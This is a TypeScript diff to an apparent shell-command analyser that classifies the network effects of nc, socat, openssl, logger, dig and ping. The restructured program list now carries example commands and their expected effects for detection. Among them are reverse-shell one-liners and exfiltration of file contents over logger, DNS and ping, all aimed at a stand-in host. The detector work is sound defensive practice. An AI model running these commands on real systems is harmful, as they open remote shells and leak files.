@@ -1,3 +1,4 @@
+import type { Program } from '../program.ts'
 import type { DataSource } from '../../../model/effect.ts'
 import type { Command, CommandReader, Word } from '../../command.ts'
 import type { ReadContext } from '../../read-context.ts'
@@ -97,10 +98,10 @@ const socat: CommandReader = (command, context) => {
 
 /** `socat OPEN:FILE EXEC:'PROGRAM …'`: the program gets the file as its input. */
 function runsWith(program: Word, file: Word, context: ReadContext): void {
-  const quoted = (text: string) => `'${text.replaceAll("'", "'\\''")}'`
+  const quote = (text: string) => `'${text.replaceAll("'", "'\\''")}'`
   const path = file.text.replace(/^\w{1,6}:/, '').split(',')[0] ?? ''
   const line = program.text.replace(/^\w{1,6}:/, '')
-  context.code.readCode('shell', `cat ${quoted(path)} | ${line.slice(0, 4_096)}`, {
+  context.code.readCode('shell', `cat ${quote(path)} | ${line.slice(0, 4_096)}`, {
     ...context,
     through: [...context.through, 'socat'],
     depth: context.depth + 1,
@@ -193,12 +194,55 @@ const logger: CommandReader = (command, context) => {
   return undefined
 }
 
-export const sockets: readonly (readonly [string, CommandReader])[] = [
-  ...['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat'].map(name => [name, netcat] as const),
-  ['socat', socat],
-  ['openssl', openssl],
-  ['logger', logger],
-  ...['dig', 'nslookup', 'host', 'drill', 'kdig'].map(name => [name, dns] as const),
-  ['ping', ping],
-  ['ping6', ping],
+/** Programs that open connections of their own, or ask for names. */
+export const sockets: readonly Program[] = [
+  {
+    names: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'pwncat'],
+    read: netcat,
+    examples: [
+      ['nc -e /bin/sh h.example 4444', 'execute shell unknown over connection', 'connect tcp h.example'],
+      ['nc -l -p 4444', 'listen tcp 4444'],
+      ['nc -z h.example 80'],
+    ],
+  },
+  {
+    names: ['socat'],
+    read: socat,
+    examples: [
+      [
+        'socat TCP:h.example:4444 EXEC:/bin/sh',
+        'execute shell unknown over connection',
+        'connect tcp h.example',
+      ],
+    ],
+  },
+  {
+    names: ['openssl'],
+    read: openssl,
+    examples: [['openssl s_client -connect h.example:443', 'connect tcp h.example'], ['openssl version']],
+  },
+  {
+    names: ['logger'],
+    read: logger,
+    examples: [
+      ['logger -n h.example -f a.log', 'read a.log', 'connect tcp h.example sends a.log'],
+      ['logger started'],
+    ],
+  },
+  {
+    names: ['dig', 'nslookup', 'host', 'drill', 'kdig'],
+    read: dns,
+    examples: [
+      ['dig h.example', 'connect dns h.example'],
+      ['dig $(cat a.txt).h.example', 'read a.txt', 'connect dns sends a.txt'],
+    ],
+  },
+  {
+    names: ['ping', 'ping6'],
+    read: ping,
+    examples: [
+      ['ping -c 1 h.example', 'connect dns h.example'],
+      ['ping -p $(cat a.txt) h.example', 'read a.txt', 'connect tcp h.example sends a.txt'],
+    ],
+  },
 ]
